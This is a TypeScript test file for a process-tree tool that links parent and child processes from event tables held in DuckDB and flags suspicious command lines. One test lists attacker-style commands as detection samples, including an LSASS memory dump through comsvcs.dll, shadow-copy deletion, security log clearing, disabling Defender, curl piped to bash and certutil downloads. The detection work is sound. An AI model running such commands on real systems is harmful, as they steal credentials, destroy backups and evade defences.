/** The way through DuckDB: what is coded, read late and sifted there comes to the same as texts compared one by one. */
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Column } from "../../base/column.js";
import type { Frame } from "../../frame/frame.js";
import { FrameStore } from "../../frame/store.js";
import { buildForest, buildProcessTree, defaultMarks, linkProcesses, readProcesses } from "./index.js";
import { tableOf, type Event } from "./text-table.js";

const columns: readonly Column[] = [
  { name: "At", type: "datetime" },
  ...["Id", "Parent", "Name", "ParentName", "Host", "Guid", "ParentGuid", "Command"].map(
    name => ({ name, type: "string" }) as const,
  ),
];
const schema = {
  ...{ time: "At", processId: "Id", parentId: "Parent", name: "Name", parentName: "ParentName", host: "Host" },
  ...{ processGuid: "Guid", parentGuid: "ParentGuid", commandLine: "Command" },
};
type Row = Event & { readonly command?: string };

describe("process tables of frames", () => {
  let store: FrameStore;
  beforeAll(async () => {
    store = await FrameStore.open();
  });
  afterAll(async () => store?.close());
  const frameOf = async (events: readonly Row[], list = columns): Promise<Frame> =>
    (await store.fromRows(
      events.map(e => ({
        ...{ At: Number.isNaN(e.at) ? null : new Date(e.at), Id: e.id, Parent: e.parent, Name: e.name },
        ...{ ParentName: e.parentName ?? "", Host: e.host ?? "h", Guid: e.guid ?? "", ParentGuid: e.parentGuid ?? "" },
        Command: e.command ?? "",
      })),
      { columns: list, source: "test" },
    )) as unknown as Frame;
  /** Who is whose parent, by rows of the frame; texts of parents that are not in the data. */
  const linksOf = async (events: readonly Row[]) => {
    const frame = await frameOf(events);
    const data = await readProcesses(frame, schema);
    const { links } = buildForest(data);
    const rowOf = (row: number): number => (row < 0 || row >= links.count ? -1 : (data.frameRow[row] ?? -1));
    const parents = new Array<number>(events.length).fill(-2);
    links.parent.slice(0, links.count).forEach((parent, row) => (parents[rowOf(row)] = rowOf(parent)));
    await frame.close();
    return { parents, ghosts: links.ghosts.length, repeated: data.repeated.map(rowOf) };
  };

  test("rows in any order, ids of any spelling and texts of any kind link as they do one by one", async () => {
    const event = fc.record({
      at: fc.oneof(fc.integer({ min: 0, max: 30 }), fc.constant(Number.NaN)),
      id: fc.constantFrom("1", "0x2", "2", "03", "", "__proto__", "-"),
      parent: fc.constantFrom("0x1", "2", "3.0", "", "0", "constructor"),
      name: fc.constantFrom("C:\\a.exe", "A.EXE", "/bin/b", "", "-"),
      parentName: fc.constantFrom("a.exe", "D:\\b", ""),
      host: fc.constantFrom("one", "two", ""),
      guid: fc.constantFrom("A", "B", ""),
      parentGuid: fc.constantFrom("A", "C", ""),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(event, { minLength: 1, maxLength: 15 }), async made => {
        // Each with a command line of its own: nothing is left out as repeated.
        const events = made.map((e, i) => ({ ...e, command: String(i) }));
        // The reader sorts by time; what stands first decides between equal times.
        const order = events
          .map((_, i) => i)
          .sort((a, b) => {
            const [x, y] = [events[a]?.at ?? 0, events[b]?.at ?? 0].map(t => (Number.isNaN(t) ? -1 : t)) as [
              number,
              number,
            ];
            return x - y || a - b;
          });
        const expected = linkProcesses(tableOf(order.map(i => events[i] as Row)));
        const parents = new Array<number>(events.length).fill(-2);
        order.forEach((row, at) => {
          const parent = expected.parent[at] ?? -1;
          parents[row] = parent < 0 || parent >= expected.count ? -1 : (order[parent] ?? -1);
        });
        expect(await linksOf(events)).toEqual({ parents, ghosts: expected.ghosts.length, repeated: [] });
      }),
      { numRuns: 40 },
    );
  });

  test("an event told twice is one; the same process with another command line is another", async () => {
    const event = { at: 5, id: "10", parent: "1", name: "a", command: "a /x" };
    const found = await linksOf([event, { ...event, command: "a /y" }, event]);
    expect(found.repeated).toEqual([2]);
  });

  test("times in text columns are read, and a column without times is refused", async () => {
    const asText = columns.map(c => (c.name === "At" ? { ...c, type: "string" as const } : c));
    const rows = [
      { At: "2026-01-09 08:00:05", Id: "2", Parent: "1", Name: "b" },
      { At: "2026-01-09T10:00:00+02:00", Id: "1", Parent: "", Name: "a" },
    ].map(r => ({ ...r, ParentName: "a", Host: "h", Guid: "", ParentGuid: "", Command: "" }));
    const frame = (await store.fromRows(rows, { columns: asText, source: "test" })) as unknown as Frame;
    const data = await readProcesses(frame, schema);
    expect([...data.table.timeMs]).toEqual([Date.UTC(2026, 0, 9, 8, 0, 5), Date.UTC(2026, 0, 9, 8)]);
    expect([...buildForest(data).links.parent]).toEqual([1, -1]);
    await expect(readProcesses(frame, { ...schema, time: "Name" })).rejects.toMatchObject({ code: "view/column-type" });
  });

  /** A command line that each mark is for, and one that only resembles it. */
  const commands: readonly (readonly [string, string])[] = [
    ["rundll32.exe C:\\x\\comsvcs.dll, MiniDump 624 l.dmp full", "comsvcs.dll"],
    ["vssadmin.exe  DELETE\u00a0shadows /all", "vssadmin list shadows, then delete"],
    ["wevtutil.exe cl Security", "wevtutil qe Security"],
    ["Set-MpPreference -DisableRealtimeMonitoring $true", "Set-MpPreference -Force"],
    ["sh -c 'curl http://x | bash'", "curl http://x | tee y"],
    ["powershell -NoP -EncodedCommand ZQBjAGgAbwAgADEA", "powershell -Exec Bypass"],
    ["certutil -f -urlcache http://x y", "certutil -hashfile y"],
    ['net group "Domain Admins" /domain', "net group x"],
    ["7z a -pSecret x.7z y", "7z l x.7z"],
  ];
  test("DuckDB sifts what may be marked, and the patterns decide", async () => {
    const rows = commands
      .flat()
      .map((command, i) => ({ at: i, id: String(i + 1), parent: "", name: "x.exe", command }));
    const frame = await frameOf(rows);
    const tree = await buildProcessTree(frame, { schema });
    expect(commands).toHaveLength(defaultMarks.length);
    const byCommand = new Map(tree.commandLine.map((command, i) => [command, tree.remark[i]]));
    commands.forEach(([bad, plain], i) => {
      expect(byCommand.get(bad), bad).toBe(defaultMarks[i]?.remark);
      expect(byCommand.get(plain), plain).toBeNull();
    });
    await frame.close();
  });

  test("marks of one's own: text in any case, with signs of patterns, and patterns", async () => {
    const event = { at: 0, id: "1", parent: "", name: "C:\\Tools\\a+b.exe", command: "x" };
    const frame = await frameOf([
      event,
      { ...event, id: "2", name: "y", command: "run A+B now" },
      { ...event, id: "3", name: "aab" },
    ]);
    const toneOf = async (match: string | RegExp) =>
      (await buildProcessTree(frame, { schema, mark: [{ match, tone: "bad", remark: "r" }] })).tone;
    expect(await toneOf("A+b")).toEqual(["bad", "bad", null]);
    expect(await toneOf(/^a+b$/g)).toEqual([null, null, "bad"]);
    expect((await buildProcessTree(frame, { schema, around: "0x2" })).processId).toEqual(["2"]);
    await frame.close();
  });
});
